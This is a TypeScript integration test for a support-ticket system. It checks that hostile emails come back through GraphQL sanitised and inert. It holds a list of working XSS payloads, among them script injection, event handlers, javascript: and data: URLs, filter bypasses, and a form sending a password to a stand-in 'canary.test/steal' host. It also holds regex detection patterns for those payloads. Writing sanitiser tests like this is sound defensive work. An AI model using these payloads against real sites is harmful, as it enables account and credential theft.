/**
 * TESTPLAN S1 as seen through the API: hostile HTML bodies, subjects, display names and
 * attachment filenames go through the real ingest pipeline and come back from GraphQL with an
 * inert `bodyHtml` and the other fields as plain strings (never HTML the client would have to
 * trust). The full payload corpus is checked at the parser (test/unit/ingest/parse-html.test.ts);
 * this proves the API serves what was sanitised, not something else.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../../harness/app.js';
import { gql } from '../../harness/graphql-client.js';
import { createIngestHarness, type IngestHarness } from '../../harness/ingest.js';
import { buildMail } from '../../harness/mail.js';

let gw: TestApp;
let h: IngestHarness;

type Data = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

const HTML_PAYLOADS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<body onload=alert(1)>text</body>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<svg onload=alert(1)><circle r="10"/></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="http://canary.test/steal"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
  '<meta http-equiv="refresh" content="0;url=http://canary.test/refresh">',
  '<base href="http://canary.test/">',
  '<div style="background-image: url(javascript:alert(1))">css</div>',
  '<div style="width: expression(alert(1))">ie</div>',
  '<p title="</p><script>alert(1)</script>">attr breakout</p>',
  '<<img src=x onerror=alert(1)//<',
];

const STRING_PAYLOADS = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "javascript:alert('x')", '<svg/onload=alert(1)>'];

/** No script elements, no event attributes, no dangerous URL schemes in attribute values. */
function expectInert(html: string): void {
  const lower = html.toLowerCase();
  expect(lower).not.toContain('<script');
  expect(lower).not.toMatch(/<(?:iframe|object|embed|form|meta|base|svg|math|style|link)\b/);
  for (const tag of html.matchAll(/<[a-zA-Z][^>]*>/g)) {
    expect(tag[0], tag[0]).not.toMatch(/\son[a-z]+\s*=/i);
    expect(tag[0].replace(/&#x?[0-9a-f]+;?/gi, 'X'), tag[0]).not.toMatch(/(?:javascript|vbscript|data|livescript)\s*:/i);
    expect(tag[0], tag[0]).not.toMatch(/expression\s*\(/i);
  }
}

beforeAll(async () => {
  gw = await startTestApp({ SUPPORT_ADDRESS: 'support@example.com' });
  h = await createIngestHarness({}, gw.databaseUrl);
});
afterAll(async () => {
  await h?.close();
  await gw?.stop();
});

describe('hostile mail through the API (S1)', () => {
  it('serves an inert bodyHtml for every HTML payload', async () => {
    for (const [i, payload] of HTML_PAYLOADS.entries()) {
      const outcome = await h.ingest(await buildMail({ from: `x${i}@attacker.test`, subject: `html ${i}`, html: `<p>before</p>${payload}<p>after</p>` }));
      expect(outcome.kind).toBe('ticket');
      const number = (outcome as { ticketNumber: number }).ticketNumber;
      const data = (await gql<Data>(gw.url, gw.adminToken, `{ ticket(number: ${number}) { messages { bodyHtml bodyText } } }`)).data!;
      const html = data.ticket.messages[0].bodyHtml as string | null;
      expect(html, payload).not.toBeNull();
      expect(html).toContain('after');
      expectInert(html!);
    }
  });

  it('returns subjects, display names and attachment filenames as the plain strings they were', async () => {
    for (const [i, payload] of STRING_PAYLOADS.entries()) {
      const outcome = await h.ingest(
        await buildMail({
          from: { name: payload, address: `y${i}@attacker.test` } as unknown as string,
          subject: payload,
          text: 'plain body',
          attachments: [{ filename: `${payload}.txt`, content: 'hello', contentType: 'text/plain' }],
        }),
      );
      expect(outcome.kind).toBe('ticket');
      const number = (outcome as { ticketNumber: number }).ticketNumber;
      const data = (await gql<Data>(gw.url, gw.adminToken, `{ ticket(number: ${number}) { subject requester { name email } messages { subject attachments { filename } } } }`)).data!;
      expect(data.ticket.subject).toBe(payload);
      expect(data.ticket.requester).toEqual({ name: payload, email: `y${i}@attacker.test` });
      expect(data.ticket.messages[0].subject).toBe(payload);
      const filename = data.ticket.messages[0].attachments[0]?.filename as string | undefined;
      // Filenames come back cleaned by ingest (no path, no control characters) and never HTML-escaped:
      // a plain string the client shows as text.
      expect(filename, payload).toMatch(/\.txt$/);
      expect(filename).not.toMatch(/[/\\\u0000-\u001f]|&lt;|&gt;|&quot;/);
    }
  });
});
